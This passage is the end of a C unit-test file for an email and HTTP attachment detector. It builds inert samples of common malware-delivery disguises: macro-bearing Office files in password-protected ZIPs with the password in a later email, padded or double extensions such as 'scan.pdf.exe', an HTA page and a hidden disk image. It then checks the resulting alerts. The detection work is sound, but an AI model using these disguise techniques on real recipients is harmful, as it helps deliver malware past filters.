    zip_add_zc(&z, "report.doc", ole.p, ole.len, 8, "other", false);
    struct buf two = zip_end(&z);

    static const char ja[] = "\xe4\xbd\x90\xe8\x97\xa4\xe6\xa7\x98\n\n"
                             "\xe3\x83\x91\xe3\x82\xb9\xe3\x83\xaf\xe3\x83\xbc\xe3\x83\x89"
                             "\xef\xbc\x9a" "0423\n";
    static const char jis[] = "\x1b$B%Q%9%o!<%I!'\x1b(B0423\r\n";
    static const char other[] = "Password: 9999\n";
    struct {
        const char *text;
        const struct buf *zip;
        uint32_t sid; /* 0: no alert */
        const char *want[3];
    } rows[] = {
        {ja, &enc, 6004,
         {"\"reasons\":[\"macro\"]", "\"opened_entries\":1",
          "1 encrypted entry was opened with the passphrase written in the message itself"}},
        /* (right after an opening: the passwords of one file are not tried on the next) */
        {NULL, &enc, 6005, {"\"contents_visible\":false", "\"encrypted_entries\":1", NULL}},
        /* one entry opened, one not (another password): the hidden one is named */
        {ja, &two, 6004,
         {"\"reasons\":[\"macro\",\"encrypted_archive\"]", "\"opened_entries\":1",
          "Office document (report.doc) that cannot be checked"}},
        {jis, &enc, 6004, {"\"contents_visible\":true", "it contains a VBA macro project: invoice.doc",
                           "\"detected_type\":\"ZIP archive (encrypted, passphrase found)\""}},
        {other, &enc, 6005,
         {"\"reasons\":[\"encrypted_archive\"]", "\"opened_entries\":0",
          "cannot be checked for macros"}},
        {ja, &plain, 0, {NULL, NULL, NULL}},
        {other, &plain, 6005, {"\"reasons\":[\"encrypted_archive\"]", NULL, NULL}},
    };
    uint64_t ts = T0;
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        char row[16];
        snprintf(row, sizeof row, "row %zu", i);
        struct mime_email em = the_email;
        if (rows[i].text) {
            em.text = (const uint8_t *)rows[i].text;
            em.text_len = (uint32_t)strlen(rows[i].text);
        }
        size_t before = c.n;
        struct flow f = mk_flow(900 + i, 120, 25, 25);
        struct app_file af = mk_file(APP_PROTO_SMTP, "invoice_0423.zip", rows[i].zip->p,
                                     rows[i].zip->len, "application/zip");
        af.email = &em;
        feed(h, &f, FLOW_TOSERVER, ts, &af);
        ts += S_NS;
        TC_EQ(row, c.n, before + (rows[i].sid ? 1 : 0));
        if (!rows[i].sid || c.n != before + 1)
            continue;
        TC_EQ(row, c.sid[before], rows[i].sid);
        for (int k = 0; k < 3; k++) {
            if (!rows[i].want[k])
                continue;
            TC_CHECK(row, has_str(c.json[before], rows[i].want[k]));
            if (!has_str(c.json[before], rows[i].want[k]))
                fprintf(stderr, "  want %s in %s\n", rows[i].want[k], c.json[before]);
        }
    }
    tc_done();
    /* the password is never written out */
    for (size_t i = 0; i < c.n; i++)
        assert_false(has_str(c.json[i], "0423\""));
    col_reset(&c);
    dtr_free(h);
    b_free(&ole);
    b_free(&enc);
    b_free(&plain);
    b_free(&two);
}

static void test_detector_settings(void **state)
{
    (void)state;
    struct col c = {0};
    struct buf pe = mk_pe(1024, false);
    struct zipw z = {0};
    zip_add(&z, "a.txt", (const uint8_t *)"abc", 3, (struct zent_opt){0, 1, 1});
    struct buf enc = zip_end(&z);
    zip_add(&z, "a.txt", (const uint8_t *)"abc", 3, STORED);
    struct buf plain = zip_end(&z);
    struct flow f = mk_flow(7, 120, 25, 25);

    /* encrypted-archives off; type-mismatch off */
    struct dtr_setting off[] = {{"attachment", "encrypted-archives", "no", 0},
                                {"attachment", "type-mismatch", "no", 0}};
    dtr_host_t *h = host(&c, off, 2);
    struct app_file af = mk_file(APP_PROTO_SMTP, "a.zip", enc.p, enc.len, NULL);
    feed(h, &f, 0, T0, &af);
    af = mk_file(APP_PROTO_SMTP, "picture.png", plain.p, plain.len, NULL);
    feed(h, &f, 0, T0, &af);
    assert_int_equal(c.n, 0);
    dtr_free(h);
    h = host(&c, NULL, 0);
    af = mk_file(APP_PROTO_SMTP, "picture.png", plain.p, plain.len, NULL);
    feed(h, &f, 0, T0, &af);
    assert_int_equal(c.n, 1);
    assert_int_equal(c.sid[0], 6006);
    col_reset(&c);
    dtr_free(h);

    /* name-padding at its edge: 3 spaces hide the extension, 2 do not (default 3) */
    h = host(&c, NULL, 0);
    af = mk_file(APP_PROTO_SMTP, "invoice   .exe", (const uint8_t *)"text", 4, NULL);
    feed(h, &f, 0, T0, &af);
    af = mk_file(APP_PROTO_SMTP, "invoice  .exe", (const uint8_t *)"text2", 5, NULL);
    feed(h, &f, 0, T0, &af);
    assert_int_equal(c.n, 2);
    assert_int_equal(c.sid[0], 6001);
    assert_true(has_str(c.json[0], "\"reasons\":[\"extension_padding\",\"executable\"]"));
    assert_int_equal(c.sid[1], 6002);
    col_reset(&c);
    dtr_free(h);
    struct dtr_setting pad2[] = {{"attachment", "name-padding", "2", 0}};
    h = host(&c, pad2, 1);
    feed(h, &f, 0, T0, &af);
    assert_int_equal(c.n, 1);
    assert_int_equal(c.sid[0], 6001);
    col_reset(&c);
    dtr_free(h);

    /* bad settings are refused with the parameter named */
    struct dtr_config cfg;
    dtr_config_defaults(&cfg);
    struct dtr_setting bad[] = {{"attachment", "max-depth", "9", 3}};
    cfg.settings = bad;
    cfg.n_settings = 1;
    char err[256] = "";
    assert_null(dtr_new(&cfg, NULL, collect, &c, err, sizeof err));
    assert_non_null(strstr(err, "max-depth"));
    b_free(&pe);
    b_free(&enc);
    b_free(&plain);
}

static void test_detector_once_per_flow(void **state)
{
    (void)state;
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct buf pe = mk_pe(1500, false);
    struct flow smtp = mk_flow(11, 150, 25, 25);
    struct flow imap = mk_flow(12, 30, 25, 143);
    struct app_file af = mk_file(APP_PROTO_SMTP, "scan.pdf.exe", pe.p, pe.len, NULL);
    /* the same file three times in one SMTP flow: one alert */
    feed(h, &smtp, 0, T0, &af);
    feed(h, &smtp, 0, T0 + S_NS, &af);
    feed(h, &smtp, 0, T0 + 9 * MIN_NS, &af);
    assert_int_equal(c.n, 1);
    assert_false(c.update[0]);
    assert_true(has_str(c.json[0], "\"sightings\":{\"count\":1"));
    /* after the update interval: an update with the copies counted */
    feed(h, &smtp, 0, T0 + 10 * MIN_NS, &af);
    assert_int_equal(c.n, 2);
    assert_true(c.update[1]);
    assert_true(has_str(c.json[1], "\"copies_on_flow\":4"));
    feed(h, &smtp, 0, T0 + 11 * MIN_NS, &af);
    assert_int_equal(c.n, 2);
    /* the same file crossing IMAP (server to client): a new alert, sighting 2 */
    af.proto = APP_PROTO_IMAP;
    feed(h, &imap, FLOW_TOCLIENT, T0 + 12 * MIN_NS, &af);
    assert_int_equal(c.n, 3);
    assert_false(c.update[2]);
    assert_true(has_str(c.json[2], "\"count\":2"));
    assert_true(has_str(c.json[2], "\"first_protocol\":\"smtp\""));
    assert_true(has_str(c.json[2], "\"transfer\":\"server_to_client\""));
    assert_int_equal(c.src[2].b[3], 25);  /* the mail server gave it */
    assert_int_equal(c.dst[2].b[3], 30);  /* to the client */
    assert_int_equal(c.sport[2], 143);
    /* a file without a digest (gaps): identified by name, size and bytes */
    struct app_file g = af;
    g.sha256_valid = false;
    g.gaps = true;
    g.state = APP_FILE_TRUNCATED;
    struct flow f3 = mk_flow(13, 30, 25, 143);
    feed(h, &f3, 1, T0 + 13 * MIN_NS, &g);
    feed(h, &f3, 1, T0 + 13 * MIN_NS, &g);
    assert_int_equal(c.n, 4);
    assert_true(has_str(c.json[3], "\"sha256\":null"));
    assert_true(has_str(c.json[3], "\"truncated\":true"));
    col_reset(&c);
    dtr_free(h);
    b_free(&pe);
}

static void test_detector_memcap(void **state)
{
    (void)state;
    struct col c = {0};
    struct dtr_setting s[] = {{"attachment", "memcap", "64kb", 0}};
    dtr_host_t *h = host(&c, s, 1);
    uint8_t data[64];
    struct dtr_det_stats st[DTR_MAX_DETECTORS];
    for (uint32_t i = 0; i < 3000; i++) {
        memset(data, 0, sizeof data);
        memcpy(data, &i, sizeof i);
        struct flow f = mk_flow(1000 + i, 1, 25, 25);
        struct app_file af = mk_file(APP_PROTO_SMTP, "x.js", data, sizeof data, NULL);
        feed(h, &f, 0, T0 + i * S_NS, &af);
        col_reset(&c);
    }
    size_t n = dtr_get_stats(h, st, DTR_MAX_DETECTORS);
    const struct dtr_det_stats *a = NULL;
    for (size_t i = 0; i < n; i++)
        if (!strcmp(st[i].name, "attachment"))
            a = &st[i];
    if (!a) {
        fail_msg("no stats for the attachment detector");
        abort();
    }
    assert_int_equal(a->alerts, 3000);
    assert_true(a->evicted > 0);
    assert_true(a->memuse <= a->memcap);
    /* the tables' memcap and separate-password-memcap (2 MiB by default) */
    assert_int_equal(a->memcap, 65536 + 2 * 1024 * 1024);
    dtr_free(h);
}

/* ---- passwords in a later message (PPAP) ----------------------------------------------- */

/* The hook of a message that ended on flow fl. */
static void msg_end(dtr_host_t *h, const struct flow *fl, uint64_t ts, enum app_proto proto,
                    const struct mime_email *e)
{
    dtr_message(h, fl, FLOW_TOSERVER, ts, proto, e);
}

static const struct dtr_det_stats *at_stats_of(dtr_host_t *h, struct dtr_det_stats *st)
{
    size_t n = dtr_get_stats(h, st, DTR_MAX_DETECTORS);
    for (size_t i = 0; i < n; i++)
        if (!strcmp(st[i].name, "attachment"))
            return &st[i];
    fail_msg("no stats for the attachment detector");
    abort();
}

static void test_detector_separate_password(void **state)
{
    (void)state;
    struct col c = {0};
    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {2, 1, 1, 2};
    struct buf ole = mk_ole(vba_names, vba_types, 4, NULL, false);
    struct zipw z = {0};
    zip_add_zc(&z, "order.doc", ole.p, ole.len, 8, "Ha7-wq3T", false);
    struct buf enc = zip_end(&z);
    static const char later[] = "The password follows in a separate mail.\n";
    static const char pw_text[] = "Password: Ha7-wq3T\n";
    static const char wrong[] = "Password: Zz9-xx1Q\n";
    struct mime_email first = the_email; /* keiri@trade-partner.example to sato@ */
    first.from = "Keiri <KEIRI@trade-partner.example>";
    first.text = (const uint8_t *)later;
    first.text_len = (uint32_t)strlen(later);
    struct mime_email second = the_email;
    second.subject = "Password notice";
    second.text = (const uint8_t *)pw_text;
    second.text_len = (uint32_t)strlen(pw_text);
    struct dtr_det_stats st[DTR_MAX_DETECTORS];
    struct flow f1 = mk_flow(100, 120, 25, 25), f2 = mk_flow(101, 120, 25, 25);

    /* kept, then opened by the next message of the same sender (other case, display name) */
    dtr_host_t *h = host(&c, NULL, 0);
    struct app_file af = mk_file(APP_PROTO_SMTP, "order.zip", enc.p, enc.len, "application/zip");
    af.email = &first;
    feed(h, &f1, FLOW_TOSERVER, T0, &af);
    assert_int_equal(c.n, 1);
    assert_int_equal(c.sid[0], 6005);
    uint64_t kept = at_stats_of(h, st)->entries; /* the alert tables' entries and the archive */
    msg_end(h, &f1, T0, APP_PROTO_SMTP, &first); /* its own message: nothing in it */
    assert_int_equal(c.n, 1);
    assert_int_equal(at_stats_of(h, st)->entries, kept);
    struct mime_email w = second;
    w.text = (const uint8_t *)wrong;
    w.text_len = (uint32_t)strlen(wrong);
    msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &w); /* a wrong password: still kept */
    assert_int_equal(c.n, 1);
    msg_end(h, &f2, T0 + 2 * S_NS, APP_PROTO_POP3, &second);
    assert_int_equal(c.n, 2);
    assert_int_equal(c.sid[1], 6004);
    assert_false(c.update[1]);
    assert_true(has_str(c.json[1], "\"reasons\":[\"macro\"]"));
    assert_true(has_str(c.json[1], "\"opened_entries\":1"));
    assert_true(has_str(c.json[1], "opened with the password sent in a later message from the "
                                   "same sender (password_message)"));
    assert_true(has_str(c.json[1], "\"password_message\":{\"protocol\":\"pop3\","));
    assert_true(has_str(c.json[1], "\"subject\":\"Password notice\""));
    assert_true(has_str(c.json[1], "\"archive_flow_id\":100"));
    assert_true(has_str(c.json[1], "\"sightings\":{\"count\":1,")); /* the same crossing */
    assert_true(has_str(c.json[1], "\"sender\":\"Keiri <KEIRI@trade-partner.example>\""));
    assert_true(has_str(c.json[1], "\"recipients\":[\"sato@sakura-trading.example\"]"));
    /* where the archive went, not where the password came */
    assert_int_equal(c.src[1].b[3], 120);
    assert_int_equal(c.dst[1].b[3], 25);
    assert_int_equal(c.dport[1], 25);
    /* opened once: dropped (its alert adds no entry: same SHA-256, no per-flow entry) */
    assert_int_equal(at_stats_of(h, st)->entries, kept - 1);
    msg_end(h, &f2, T0 + 3 * S_NS, APP_PROTO_SMTP, &second);
    assert_int_equal(c.n, 2);
    col_reset(&c);
    dtr_free(h);

    /* another sender, another recipient, too late: nothing; no recipients named: opened */
    h = host(&c, NULL, 0);
    feed(h, &f1, FLOW_TOSERVER, T0, &af);
    struct mime_email other = second;
    other.from = "info@other.example";
    msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &other);
    other = second;
    other.to[0] = "kato@sakura-trading.example";
    msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &other);
    assert_int_equal(c.n, 1);
    other.n_to = 0;
    msg_end(h, &f2, T0 + 2 * S_NS, APP_PROTO_SMTP, &other);
    assert_int_equal(c.n, 2);
    assert_int_equal(c.sid[1], 6004);
    feed(h, &f1, FLOW_TOSERVER, T0 + 3 * S_NS, &af); /* kept again (the alert is not due) */
    size_t n = c.n;
    kept = at_stats_of(h, st)->entries;
    msg_end(h, &f2, T0 + 3 * S_NS + 30 * MIN_NS + 1, APP_PROTO_SMTP, &second);
    assert_int_equal(c.n, n);
    assert_int_equal(at_stats_of(h, st)->entries, kept - 1); /* the window passed */
    col_reset(&c);
    dtr_free(h);

    /* another address of the sender's domain (any case): opened when both messages name a
     * recipient in common, and the detail says so; not when the password message names none,
     * not from a subdomain, not to another recipient, not with separate-password-same-domain
     * off */
    for (int on = 1; on >= 0; on--) {
        struct dtr_setting nodom[] = {{"attachment", "separate-password-same-domain", "no", 0}};
        h = host(&c, on ? NULL : nodom, on ? 0 : 1);
        feed(h, &f1, FLOW_TOSERVER, T0, &af);
        other = second;
        other.from = "PPAP System <noreply@Trade-Partner.example>";
        other.n_to = 0;
        msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &other);
        other.n_to = second.n_to;
        other.from = "noreply@mail.trade-partner.example";
        msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &other);
        other.from = "PPAP System <noreply@Trade-Partner.example>";
        other.to[0] = "kato@sakura-trading.example"; /* no recipient in common */
        msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &other);
        other.to[0] = second.to[0];
        assert_int_equal(c.n, 1);
        other.from = "PPAP System <noreply@Trade-Partner.example>";
        msg_end(h, &f2, T0 + 2 * S_NS, APP_PROTO_SMTP, &other);
        assert_int_equal(c.n, on ? 2 : 1);
        if (on) {
            assert_int_equal(c.sid[1], 6004);
            assert_true(has_str(c.json[1], "later message from another address of the sender's "
                                           "domain (password_message)"));
            assert_true(has_str(c.json[1], "noreply@Trade-Partner.example"));
        }
        col_reset(&c);
        dtr_free(h);
    }

    /* the password after the attachment in the same message: opened at the message's end,
     * as a password of that message; a subject holding the password is not shown */
    h = host(&c, NULL, 0);
    struct mime_email same = first;
    same.text = (const uint8_t *)pw_text;
    same.text_len = 0; /* the file came before the text */
    af.email = &same;
    feed(h, &f1, FLOW_TOSERVER, T0, &af);
    same.text_len = (uint32_t)strlen(pw_text);
    msg_end(h, &f1, T0, APP_PROTO_SMTP, &same);
    assert_int_equal(c.n, 2);
    assert_int_equal(c.sid[1], 6004);
    assert_true(has_str(c.json[1], "passphrase written in the message itself"));
    assert_false(has_str(c.json[1], "password_message"));
    af.email = &first;
    feed(h, &f2, FLOW_TOSERVER, T0 + S_NS, &af);
    struct mime_email subj = second;
    subj.subject = "PW: Ha7-wq3T";
    msg_end(h, &f1, T0 + 2 * S_NS, APP_PROTO_IMAP, &subj);
    assert_int_equal(c.n, 4);
    assert_true(has_str(c.json[3], "\"password_message\":{\"protocol\":\"imap\""));
    assert_false(has_str(c.json[3], "PW:"));
    for (size_t i = 0; i < c.n; i++)
        assert_false(has_str(c.json[i], "Ha7-wq3T"));
    col_reset(&c);
    dtr_free(h);

    /* separate-password off: nothing kept */
    struct dtr_setting off[] = {{"attachment", "separate-password", "no", 0}};
    h = host(&c, off, 1);
    feed(h, &f1, FLOW_TOSERVER, T0, &af);
    msg_end(h, &f2, T0 + S_NS, APP_PROTO_SMTP, &second);
    assert_int_equal(c.n, 1);
    assert_int_equal(at_stats_of(h, st)->entries, 2); /* the alert's file and its SHA-256 */
    assert_int_equal(at_stats_of(h, st)->memcap, 1024 * 1024);
    col_reset(&c);
    dtr_free(h);

    /* the memcap: the oldest kept archive is dropped (counted) for a new one */
    struct dtr_setting cap[] = {{"attachment", "separate-password-memcap", "64kb", 0}};
    h = host(&c, cap, 1);
    uint8_t *big = malloc(24000);
    assert_non_null(big);
    for (size_t i = 0; i < 24000; i++)
        big[i] = (uint8_t)(i * 7919u >> 3);
    zip_add_zc(&z, "data.bin", big, 24000, 0, "Ha7-wq3T", false);
    struct buf large = zip_end(&z);
    for (uint64_t i = 0; i < 4; i++) {
        struct flow fi = mk_flow(200 + i, 120, 25, 25);
        struct app_file bf = mk_file(APP_PROTO_SMTP, "data.zip", large.p, large.len, NULL);
        bf.email = &first;
        feed(h, &fi, FLOW_TOSERVER, T0 + i * S_NS, &bf);
    }
    const struct dtr_det_stats *a = at_stats_of(h, st);
    assert_int_equal(a->entries, 4 + 1 + 2); /* four flows' alerts, one SHA-256, two kept */
    assert_int_equal(a->evicted, 2);
    assert_true(a->memuse <= a->memcap);
    free(big);
    b_free(&large);
    col_reset(&c);
    dtr_free(h);
    b_free(&ole);
    b_free(&enc);
}

/* ---- HTTP downloads ------------------------------------------------------------------- */

static struct http_tx mk_tx(const char *uri, int status, const uint8_t *body, size_t n,
                            const struct http_header *hdrs, size_t nh, const char *ctype)
{
    struct http_tx tx;
    memset(&tx, 0, sizeof tx);
    tx.uri.p = (const uint8_t *)uri;
    tx.uri.len = strlen(uri);
    tx.hostname.p = (const uint8_t *)"dl.example.com";
    tx.hostname.len = 14;
    tx.status = status;
    tx.resp_body = body;
    tx.resp_body_len = n;
    tx.resp_decoded = tx.resp_entity = tx.resp_wire = n;
    tx.resp_headers = hdrs;
    tx.n_resp_headers = nh;
    if (ctype) {
        tx.resp_content_type.p = (const uint8_t *)ctype;
        tx.resp_content_type.len = strlen(ctype);
    }
    return tx;
}

static struct http_header hdr(const char *name, const char *value)
{
    struct http_header h;
    h.name.p = (const uint8_t *)name;
    h.name.len = strlen(name);
    h.value.p = (const uint8_t *)value;
    h.value.len = strlen(value);
    return h;
}

static void test_detector_http(void **state)
{
    (void)state;
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct buf pe = mk_pe(4096, false);
    static const char js[] = "function f(){return 1}\n";
    static const char html[] = "<!DOCTYPE html><html><body>not found</body></html>";
    static const char hta[] = "<html><head><HTA:APPLICATION ID=\"a\"></head></html>";
    struct http_header att_js = hdr("Content-Disposition", "attachment; filename=\"update.js\"");
    struct http_header star = hdr("content-disposition",
                                  "attachment; filename=\"x.pdf\"; filename*=UTF-8''"
                                  "%E8%AB%8B%E6%B1%82.pdf.exe");
    struct http_header range0 = hdr("Content-Range", "bytes 0-4095/8192");
    struct http_header range1 = hdr("Content-Range", "bytes 4096-8191/8192");
    /* a page whose bytes 32 KiB in carry an ISO 9660 volume descriptor */
    struct buf iso = {0};
    b_put(&iso, "<html>", 6);
    b_zero(&iso, 0x8000 - iso.len);
    b_u8(&iso, 1);
    b_put(&iso, "CD001", 5);
    b_u8(&iso, 1);
    b_zero(&iso, 2048);
    struct {
        const char *name;
        struct http_tx tx;
        uint32_t sid;
    } rows[] = {
        {"exe 200", mk_tx("/files/setup.exe?v=2", 200, pe.p, pe.len, NULL, 0,
                          "application/octet-stream"), 6002},
        {"exe 404", mk_tx("/files/setup.exe", 404, pe.p, pe.len, NULL, 0, NULL), 0},
        {"page js", mk_tx("/static/app.js", 200, (const uint8_t *)js, strlen(js), NULL, 0,
                          "application/javascript"), 0},
        {"download js", mk_tx("/get?id=1", 200, (const uint8_t *)js, strlen(js), &att_js, 1,
                              "application/octet-stream"), 6003},
        {"filename*", mk_tx("/get?id=2", 200, pe.p, pe.len, &star, 1, NULL), 6001},
        {"soft 404 html as pdf", mk_tx("/doc.pdf", 200, (const uint8_t *)html, strlen(html),
                                       NULL, 0, "text/html"), 0},
        {"png url serving an exe: no mismatch from a URL", mk_tx("/a.png", 200, pe.p, 64, NULL, 0,
                                                              NULL), 6002},
        {"range from 0", mk_tx("/big.bin", 206, pe.p, pe.len, &range0, 1, NULL), 6002},
        {"range later", mk_tx("/big2.bin", 206, pe.p, pe.len, &range1, 1, NULL), 0},
        {"hta as a page: not judged", mk_tx("/index.html", 200, (const uint8_t *)hta,
                                            strlen(hta), NULL, 0, "text/html"), 0},
        {"hta by content type", mk_tx("/open", 200, (const uint8_t *)hta, strlen(hta), NULL, 0,
                                      "application/hta"), 6003},
        {"hta by name", mk_tx("/x/open.hta", 200, (const uint8_t *)hta, strlen(hta), NULL, 0,
                              "text/html"), 6003},
        /* at_http's quick "nothing to judge" test must agree with the full one */
        {"dot percent-encoded in the URL", mk_tx("/get/setup%2Eexe", 200, (const uint8_t *)js,
                                                 strlen(js), NULL, 0, "text/plain"), 6002},
        {"hta content type with spaces", mk_tx("/open2", 200, (const uint8_t *)hta, strlen(hta),
                                               NULL, 0, "Application/ H\tTA ; q=1"), 6003},
        {"exe behind a page URL", mk_tx("/index", 200, pe.p, pe.len, NULL, 0, "text/html"), 6002},
        {"encoded script", mk_tx("/s", 200, (const uint8_t *)"#@~^XhQAAA==", 12, NULL, 0,
                                 "text/plain"), 6003},
        {"disk image behind a page URL", mk_tx("/view", 200, iso.p, iso.len, NULL, 0, "text/html"), 6003},
        {"page with a query that names an exe", mk_tx("/view?f=a.exe", 200,
                                                      (const uint8_t *)html, strlen(html), NULL, 0,
                                                      "text/html"), 0},
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        size_t before = c.n;
        struct flow f = mk_flow(500 + i, 80, 21, 80);
        /* the client is the office PC here: swap so that 192.168.10.21 is the client */
        f.client_is_a = false;
        dtr_record(h, &f, 1, T0 + i * S_NS, APP_REC_HTTP, &rows[i].tx);
        TC_EQ(rows[i].name, c.n, before + (rows[i].sid ? 1 : 0));
        if (rows[i].sid && c.n == before + 1) {
            TC_EQ(rows[i].name, c.sid[before], rows[i].sid);
            TC_EQ(rows[i].name, c.src[before].b[0], 203); /* the web server */
            TC_EQ(rows[i].name, c.dst[before].b[0], 192); /* the PC */
            TC_CHECK(rows[i].name, has_str(c.json[before], "\"protocol\":\"http\""));
            TC_CHECK(rows[i].name, has_str(c.json[before], "\"hostname\":\"dl.example.com\""));
        }
    }
    tc_done();
    assert_true(has_str(c.json[0], "\"name\":\"setup.exe\""));
    assert_true(has_str(c.json[0], "\"declared_type\":\"application/octet-stream\""));
    assert_true(has_str(c.json[0], "\"direction\":\"inbound\""));
    assert_true(has_str(c.json[2], "\"name\":\"\xe8\xab\x8b\xe6\xb1\x82.pdf.exe\""));
    /* http: no */
    col_reset(&c);
    dtr_free(h);
    struct dtr_setting s[] = {{"attachment", "http", "no", 0}};
    h = host(&c, s, 1);
    struct flow f = mk_flow(600, 80, 21, 80);
    dtr_record(h, &f, 1, T0, APP_REC_HTTP, &rows[0].tx);
    assert_int_equal(c.n, 0);
    dtr_free(h);
    b_free(&iso);
    b_free(&pe);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_name_parse),
        cmocka_unit_test(test_scan_executables),
        cmocka_unit_test(test_scan_zip),
        cmocka_unit_test(test_scan_zip_limits),
        cmocka_unit_test(test_scan_zipcrypto),
        cmocka_unit_test(test_scan_office),
        cmocka_unit_test(test_scan_xlm),
        cmocka_unit_test(test_scan_active),
        cmocka_unit_test(test_scan_dde),
        cmocka_unit_test(test_scan_doc_dde),
        cmocka_unit_test(test_scan_markup),
        cmocka_unit_test(test_scan_pdf),
        cmocka_unit_test(test_scan_rar_7z),
        cmocka_unit_test(test_scan_containers),
        cmocka_unit_test(test_worth_scanning),
        cmocka_unit_test(test_scan_prefixes),
        cmocka_unit_test(test_detector_signatures),
        cmocka_unit_test(test_detector_password),
        cmocka_unit_test(test_detector_settings),
        cmocka_unit_test(test_detector_once_per_flow),
        cmocka_unit_test(test_detector_memcap),
        cmocka_unit_test(test_detector_separate_password),
        cmocka_unit_test(test_detector_http),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
